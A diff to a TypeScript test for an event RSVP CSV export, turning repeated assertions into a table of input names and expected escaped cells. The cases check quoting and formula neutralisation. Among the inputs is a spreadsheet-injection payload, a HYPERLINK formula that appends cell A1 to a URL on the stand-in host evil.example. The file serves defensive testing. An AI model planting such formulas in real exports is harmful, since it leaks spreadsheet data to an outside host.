@@ -62,29 +62,24 @@ describe('GET /events/{id}/rsvps.csv', () => {
 
   it('quotes commas, quotes and line breaks, and neutralises cells a spreadsheet would run as formulas', async () => {
     const event = await createTestEvent(api);
-    await storeRsvp(event.id, { name: 'Doe, "Jane"', email: 'jane@example.org' });
-    await storeRsvp(event.id, { name: 'Line one\nline two', email: 'lines@example.org' });
-    await storeRsvp(event.id, { name: '=HYPERLINK("http://evil.example/?"&A1,"Click")', email: 'formula@example.org' });
-    await storeRsvp(event.id, { name: '+1 555 0100', email: 'plus@example.org' });
-    await storeRsvp(event.id, { name: '-2+3', email: 'minus@example.org' });
-    await storeRsvp(event.id, { name: '@SUM(A1:A2)', email: 'at@example.org' });
-    await storeRsvp(event.id, { name: '\t=1+1', email: 'tab@example.org' });
-    await storeRsvp(event.id, { name: '\r=1+1', email: 'cr@example.org' });
-    await storeRsvp(event.id, { name: '\uFF1D1+1', email: 'fullwidth@example.org' });
-    await storeRsvp(event.id, { name: 'Ada = Lovelace - 1', email: 'plain@example.org' });
+    // A name as typed, and its cell in the file.
+    const cases: [name: string, cell: string][] = [
+      ['Doe, "Jane"', '"Doe, ""Jane"""'],
+      ['Line one\nline two', '"Line one\nline two"'],
+      ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`],
+      ['+1 555 0100', "'+1 555 0100"],
+      ['-2+3', "'-2+3"],
+      ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
+      ['\t=1+1', "'\t=1+1"],
+      ['\r=1+1', `"'\r=1+1"`],
+      ['\uFF1D1+1', "'\uFF1D1+1"],
+      ['Ada = Lovelace - 1', 'Ada = Lovelace - 1'],
+    ];
+    for (const [index, [name]] of cases.entries()) await storeRsvp(event.id, { name, email: `case${index}@example.org` });
 
     const text = csvText(await exportOf(event.id));
 
-    expect(text).toContain('\r\n"Doe, ""Jane""",jane@example.org,');
-    expect(text).toContain('\r\n"Line one\nline two",lines@example.org,');
-    expect(text).toContain(`\r\n"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",formula@example.org,`);
-    expect(text).toContain("\r\n'+1 555 0100,plus@example.org,");
-    expect(text).toContain("\r\n'-2+3,minus@example.org,");
-    expect(text).toContain("\r\n'@SUM(A1:A2),at@example.org,");
-    expect(text).toContain("\r\n'\t=1+1,tab@example.org,");
-    expect(text).toContain('\r\n"\'\r=1+1",cr@example.org,');
-    expect(text).toContain("\r\n'\uFF1D1+1,fullwidth@example.org,");
-    expect(text).toContain('\r\nAda = Lovelace - 1,plain@example.org,');
+    for (const [index, [name, cell]] of cases.entries()) expect(text, JSON.stringify(name)).toContain(`\r\n${cell},case${index}@example.org,`);
     // No cell of any row starts with a formula character.
     expect(text).not.toMatch(/(^|,|\r\n|")[=+@]/);
   });
